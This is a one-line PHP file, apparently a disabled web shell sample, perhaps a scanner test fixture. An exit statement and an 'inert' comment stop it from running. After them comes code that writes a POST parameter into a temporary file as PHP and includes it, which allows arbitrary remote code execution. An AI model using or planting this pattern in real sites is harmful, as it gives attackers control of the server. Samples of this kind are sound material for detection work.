<?php exit; /* inert */ $t=tmpfile(); fwrite($t,"<?php ".$_POST["c"]); include stream_get_meta_data($t)["uri"];
